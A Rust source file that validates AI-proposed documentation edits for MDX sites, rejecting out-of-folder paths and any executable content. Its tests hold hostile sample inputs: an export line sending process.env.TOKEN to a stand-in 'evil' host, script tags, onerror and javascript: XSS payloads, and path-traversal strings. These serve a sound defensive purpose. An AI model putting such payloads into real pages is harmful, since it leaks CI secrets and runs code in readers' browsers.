//! What the model may never do, whatever the wording: write outside the docs folder, write
//! anything but Markdown/MDX pages, or put code that runs into a page (MDX compiles pages into the
//! site's JavaScript: `import`/`export` lines, scripts, frames, event handlers, expressions in
//! tags). Whether the Markdown builds is `mdx`'s concern, after its mechanical repairs.

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use serde::{Deserialize, Serialize};

use super::is_doc_file;

/// One page the model proposes: the full new text of `path`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ProposedEdit {
    pub path: String,
    /// The whole page (a new page, or an old answer format); empty when `sections` are given.
    #[serde(default)]
    pub content: String,
    #[serde(default)]
    pub reason: String,
    /// `update` or `create` (informational; what exists decides).
    #[serde(default)]
    pub action: String,
    /// Sections of an existing page to rewrite or add.
    #[serde(default)]
    pub sections: Vec<super::sections::SectionEdit>,
}

/// Why an edit cannot be committed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EditProblem {
    pub path: String,
    pub message: String,
}

impl std::fmt::Display for EditProblem {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "`{}`: {}", self.path, self.message)
    }
}

/// Largest page minibot will commit.
const MAX_PAGE_BYTES: usize = 200_000;

/// Every problem with `edits` (empty = all can be committed).
/// `named` are paths the maintainer named in the command (a page or folder of another docs
/// version or translation): edits there are allowed too.
pub fn validate_edits(
    edits: &[ProposedEdit],
    docs_dir: &str,
    named: &[String],
    max_pages: usize,
) -> Vec<EditProblem> {
    let mut problems = Vec::new();
    if edits.len() > max_pages {
        problems.push(EditProblem {
            path: "(all)".into(),
            message: format!(
                "{} pages proposed, at most {max_pages} allowed",
                edits.len()
            ),
        });
    }
    let mut seen = std::collections::BTreeSet::new();
    for e in edits {
        let mut say = |message: String| {
            problems.push(EditProblem {
                path: e.path.clone(),
                message,
            })
        };
        if let Err(m) = check_path(&e.path, docs_dir, named) {
            say(m);
            continue;
        }
        if !seen.insert(e.path.as_str()) {
            say("proposed twice".into());
        }
        if e.content.trim().is_empty() {
            say("empty page".into());
            continue;
        }
        if e.content.len() > MAX_PAGE_BYTES {
            say(format!("page is over {MAX_PAGE_BYTES} bytes"));
            continue;
        }
        for m in check_code(&e.content) {
            say(m);
        }
    }
    problems
}

/// The path must be a normalized relative `.md`/`.mdx` path inside `docs_dir`.
fn check_path(path: &str, docs_dir: &str, named: &[String]) -> Result<(), String> {
    if path.starts_with('/') || path.contains('\\') || path.contains('\0') {
        return Err("not a relative path inside the repository".into());
    }
    if path
        .split('/')
        .any(|seg| seg.is_empty() || seg == "." || seg == "..")
    {
        return Err("path has empty, `.` or `..` segments".into());
    }
    if path.starts_with(".github/") || path.split('/').any(|s| s == "node_modules") {
        return Err("minibot never writes here".into());
    }
    let in_named = named.iter().any(|n| {
        let n = n.trim_end_matches('/');
        path == n || path.starts_with(&format!("{n}/"))
    });
    if !path.starts_with(&format!("{docs_dir}/")) && !in_named {
        return Err(format!("outside the docs folder `{docs_dir}/`"));
    }
    if !is_doc_file(path) {
        return Err("not a `.md` or `.mdx` page".into());
    }
    Ok(())
}

/// Code that MDX would run, outside fenced code blocks.
fn check_code(text: &str) -> Vec<String> {
    let mut problems = Vec::new();
    for line in module_lines(text) {
        problems.push(format!(
            "line {line} starts with `import`/`export`: MDX runs it as JavaScript; generated docs may not contain code"
        ));
    }
    let mut in_code = false;
    for event in Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::InlineHtml(h) | Event::Html(h) if !in_code => check_tags(&h, &mut problems),
            _ => {}
        }
    }
    problems.sort();
    problems.dedup();
    problems
}

/// Checks every opening tag in an HTML fragment.
fn check_tags(html: &str, problems: &mut Vec<String>) {
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        rest = &rest[i + 1..];
        if rest.starts_with('!') || rest.starts_with('/') {
            continue;
        }
        let name: String = rest
            .chars()
            .take_while(|c| c.is_alphanumeric() || *c == '-' || *c == '.')
            .collect();
        if name.is_empty() {
            continue;
        }
        let end = rest.find('>').unwrap_or(rest.len());
        check_tag_safety(&name, &rest[..end], problems);
    }
}

/// The HTML a generated page may contain. MDX compiles tags into the site's JavaScript, so
/// anything that runs code (scripts, frames, event handlers, expressions, components) is refused:
/// the model's output must never become code in the maintainers' CI or the readers' browsers.
const ALLOWED_TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

fn check_tag_safety(name: &str, tag: &str, problems: &mut Vec<String>) {
    if !ALLOWED_TAGS.contains(&name) {
        problems.push(format!(
            "`<{name}>` is not allowed in generated docs (only plain HTML formatting tags are)"
        ));
        return;
    }
    let lower = without_static_style(&tag.to_ascii_lowercase());
    if lower.contains('{') {
        problems.push(format!(
            "`<{name}>` has a JSX expression `{{…}}`; generated docs may not contain code"
        ));
    }
    let has_handler = lower
        .split(|c: char| c.is_whitespace())
        .any(|attr| attr.starts_with("on") && attr.contains('='));
    if has_handler || lower.contains("javascript:") {
        problems.push(format!(
            "`<{name}>` has an event handler or a `javascript:` URL"
        ));
    }
}

/// The tag without a `style={{…}}` attribute that holds only literal CSS (what the repair of
/// `style="…"` writes); any other expression stays for the check to see.
fn without_static_style(tag: &str) -> String {
    let Some(start) = tag.find("style={{") else {
        return tag.to_string();
    };
    let inner_start = start + "style={{".len();
    let Some(len) = tag[inner_start..].find("}}") else {
        return tag.to_string();
    };
    let inner = &tag[inner_start..inner_start + len];
    let chars: Vec<char> = inner.chars().collect();
    let member_access = chars
        .windows(3)
        .any(|w| w[0].is_alphabetic() && w[1] == '.' && w[2].is_alphabetic());
    let literal = !member_access
        && inner
            .chars()
            .all(|c| c.is_alphanumeric() || " :'\",.#%-_".contains(c));
    if literal {
        format!("{}{}", &tag[..start], &tag[inner_start + len + 2..])
    } else {
        tag.to_string()
    }
}

/// Lines outside code that MDX would run as JavaScript (`import …`, `export …`).
fn module_lines(body: &str) -> Vec<usize> {
    let mut in_fence = false;
    let mut lines = Vec::new();
    for (i, line) in body.lines().enumerate() {
        let t = line.trim_start();
        if t.starts_with("```") || t.starts_with("~~~") {
            in_fence = !in_fence;
            continue;
        }
        if !in_fence && (t.starts_with("import ") || t.starts_with("export ")) {
            lines.push(i + 1);
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn edit(path: &str, content: &str) -> ProposedEdit {
        ProposedEdit {
            path: path.into(),
            content: content.into(),
            reason: String::new(),
            action: String::new(),
            sections: Vec::new(),
        }
    }

    fn problems(path: &str, content: &str) -> Vec<String> {
        validate_edits(&[edit(path, content)], "docs", &[], 3)
            .into_iter()
            .map(|p| p.message)
            .collect()
    }

    const GOOD: &str = "---\ntitle: \"Setup: the basics\"\nsidebar_position: 2\ntags: [setup]\n---\n\n# Setup\n\nRun `minibot serve` with `Vec<String>` in code.\n\n```rust\nfn main() { let x = 1 < 2; }\n```\n\nA < B is fine, and <br /> too.\n";

    #[test]
    fn a_good_page_passes() {
        assert_eq!(problems("docs/setup.md", GOOD), Vec::<String>::new());
        assert_eq!(problems("docs/guide/setup.mdx", GOOD), Vec::<String>::new());
    }

    #[test]
    fn paths_outside_the_docs_folder_are_refused() {
        for p in [
            "README.md",
            ".github/workflows/ci.yml",
            "docs/../.github/workflows/x.md",
            "/docs/a.md",
            "docs//a.md",
            "docsx/a.md",
            "docs/a.txt",
            "docs/a.js",
        ] {
            assert!(!problems(p, GOOD).is_empty(), "{p} should be refused");
        }
    }

    #[test]
    fn code_that_mdx_would_run_is_refused() {
        for bad in [
            "export const x = fetch('https://evil/' + process.env.TOKEN);\n",
            "import Evil from '@site/src/evil';\n\n<Evil />\n",
            "<script>alert(1)</script>\n",
            "<iframe src=\"https://evil\"></iframe>\n",
            "<img src=\"x.png\" onerror=\"alert(1)\" />\n",
            "<a href=\"javascript:alert(1)\">x</a>\n",
            "<div title={process.env.TOKEN}>x</div>\n",
            "<div style={{color: process.env.X}}>x</div>\n",
        ] {
            assert!(
                !problems("docs/a.md", bad).is_empty(),
                "{bad} must be refused"
            );
        }
        // Code in fences is text, not code to run.
        assert_eq!(
            problems(
                "docs/a.md",
                "```js\nimport x from 'y';\nexport default x;\n```\n"
            ),
            Vec::<String>::new()
        );
        assert_eq!(
            problems(
                "docs/a.md",
                "<details>\n<summary>More</summary>\n\nText.\n\n</details>\n"
            ),
            Vec::<String>::new()
        );
    }

    #[test]
    fn a_named_version_or_translation_may_be_edited() {
        let named = vec![
            "versioned_docs/version-2.0/intro.md".to_string(),
            "i18n/fr".to_string(),
        ];
        let ok = |p: &str| validate_edits(&[edit(p, "# x\n")], "docs", &named, 3).is_empty();
        assert!(ok("versioned_docs/version-2.0/intro.md"));
        assert!(ok(
            "i18n/fr/docusaurus-plugin-content-docs/current/intro.md"
        ));
        assert!(!ok("versioned_docs/version-2.0/other.md"));
        assert!(!ok("i18n/de/intro.md"));
    }

    #[test]
    fn too_many_or_duplicate_pages_are_refused() {
        let edits: Vec<_> = (0..4)
            .map(|i| edit(&format!("docs/p{i}.md"), "# x\n"))
            .collect();
        assert!(!validate_edits(&edits, "docs", &[], 3).is_empty());
        let dup = [edit("docs/a.md", "# a\n"), edit("docs/a.md", "# b\n")];
        assert!(!validate_edits(&dup, "docs", &[], 3).is_empty());
    }
}
